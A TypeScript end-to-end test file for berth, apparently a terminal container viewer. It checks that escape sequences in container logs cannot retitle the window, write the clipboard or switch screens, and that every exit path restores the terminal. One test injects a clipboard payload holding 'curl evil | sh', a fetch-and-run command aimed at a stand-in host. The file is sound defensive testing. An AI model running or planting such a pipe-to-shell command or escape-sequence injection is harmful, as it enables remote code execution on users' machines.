/**
 * The person's terminal is safe with berth: nothing a container prints can reach it as a
 * control sequence, and every way out (q, Ctrl-C, SIGTERM) leaves the alternate screen and shows
 * the cursor again. Observed in @xterm/headless, the way a real terminal would take the bytes.
 */
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { makeContainer, runCleanup, startOwnEngine } from '../support/engine.js';
import { disposeAppsAfterEach, type PtyApp } from '../support/pty-app.js';
import { openBerth } from './berth-session.js';

disposeAppsAfterEach();

let own: Awaited<ReturnType<typeof startOwnEngine>>;
const cleanup: Array<() => Promise<unknown>> = [];

beforeAll(async () => {
  own = await startOwnEngine('e2e-safety');
});
afterEach(() => runCleanup(cleanup));
afterAll(async () => {
  await own?.engine.destroy();
});

const count = (haystack: string, needle: string) => haystack.split(needle).length - 1;

describe('text from containers cannot drive the terminal', () => {
  test('title, clipboard, clear-screen and alternate-screen sequences in a log line change nothing', async () => {
    // Each line hides one sequence between two letters; only the letters may reach the screen.
    const script = [
      "printf 'plain before\\n'",
      "printf 'A\\033]0;pwned-title\\007B\\n'",
      `printf 'C\\033]52;c;${Buffer.from('curl evil | sh').toString('base64')}\\007D\\n'`,
      "printf 'E\\033[2JF\\n'",
      "printf 'G\\033[?1049lH\\033[?1049hI\\n' >&2",
      "printf 'plain after\\n'",
      'exec sleep 100000',
    ].join('; ');
    await makeContainer(own.context, cleanup, { name: 'mischief', init: true, cmd: ['sh', '-c', script] });
    const app = await openBerth(own.engine.host);
    // The only container, so it is selected and its logs are shown.
    await app.waitFor('plain after');
    await app.waitForStable(200);

    const screen = app.screen();
    expect(screen).toMatch(/││ {2}AB +│/);
    expect(screen).toMatch(/││ {2}CD +│/);
    expect(screen).toMatch(/││ {2}EF +│/);
    expect(screen).toMatch(/││E GHI +│/);
    expect(app.titles).not.toContain('pwned-title');
    expect(app.clipboardWrites).toEqual([]);
    expect(app.bufferType).toBe('alternate');
    // The rest of the screen is as berth drew it: the frame, the list, the status line.
    expect(app.row(0)).toMatch(/^┌ Containers \(1\/1\) .*┐┌ Logs .*┐$/);
    expect(screen).toMatch(/││mischief · running · busybox:latest/);
    expect(app.row(1)).toMatch(/^│▶ mischief +running +Up /);
    expect(app.screen().split('\n').at(-2)).toMatch(/\? help/);
    // None of the container's sequences went out at all.
    const raw = app.rawOutput().toString('utf8');
    expect(raw).not.toContain('pwned-title');
    expect(raw).not.toContain('\x1b]52');
    expect(count(raw, '\x1b[?1049l')).toBe(0);
  });
});

describe('what else writes to the terminal', () => {
  test('Ctrl-L draws the whole screen again over it', async () => {
    const app = await openBerth(own.engine.host);
    const before = app.screen();
    // Another program writing to the same terminal (a warning on stderr, a write(1) message):
    // berth sends only the cells that change, so it stays until they do, or until Ctrl-L.
    await new Promise<void>((resolve) => app.terminal.write('\x1b[2;4HBroadcast message from root', resolve));
    expect(app.screen()).toContain('Broadcast message');
    app.press('ctrl+l');
    await app.waitFor((screen) => !screen.includes('Broadcast message'));
    // As it was (ages may have moved on meanwhile).
    const masked = (screen: string) => screen.replace(/\d+/g, 'N');
    expect(masked(app.screen())).toBe(masked(before));
  });
});

/** Expects berth to have left the terminal as it found it. */
function expectTerminalRestored(app: PtyApp) {
  expect(app.bufferType).toBe('normal');
  expect(app.cursorHidden).toBe(false);
  const raw = app.rawOutput().toString('utf8');
  // Entered and left exactly once.
  expect(count(raw, '\x1b[?1049h')).toBe(1);
  expect(count(raw, '\x1b[?1049l')).toBe(1);
  // The alternate screen cleared just before it is left: tmux, when its window grew while berth
  // ran, keeps rows of it on the shell's screen (seen at 80×24 grown to 200×60, then q).
  const leave = raw.lastIndexOf('\x1b[?1049l');
  const clear = raw.lastIndexOf('\x1b[2J', leave);
  expect(clear).toBeGreaterThan(-1);
  expect(raw.slice(clear, leave).replace(/\x1b\[[0-9;?]*[A-Za-z]/g, '')).toBe('');
}

describe('every way out restores the terminal', () => {
  test('q quits with exit code 0, off the alternate screen, cursor shown', async () => {
    const app = await openBerth(own.engine.host);
    expect(app.bufferType).toBe('alternate');
    expect(app.cursorHidden).toBe(true);
    app.press('q');
    expect((await app.exited).exitCode).toBe(0);
    expectTerminalRestored(app);
  });

  test('Ctrl-C quits with exit code 0 the same way', async () => {
    const app = await openBerth(own.engine.host);
    app.press('ctrl+c');
    expect((await app.exited).exitCode).toBe(0);
    expectTerminalRestored(app);
  });

  test('SIGTERM ends berth (128 + 15) with the terminal restored', async () => {
    const app = await openBerth(own.engine.host);
    app.signal('SIGTERM');
    expect(await app.exited).toEqual({ exitCode: 143, signal: 0 });
    expectTerminalRestored(app);
  });
});
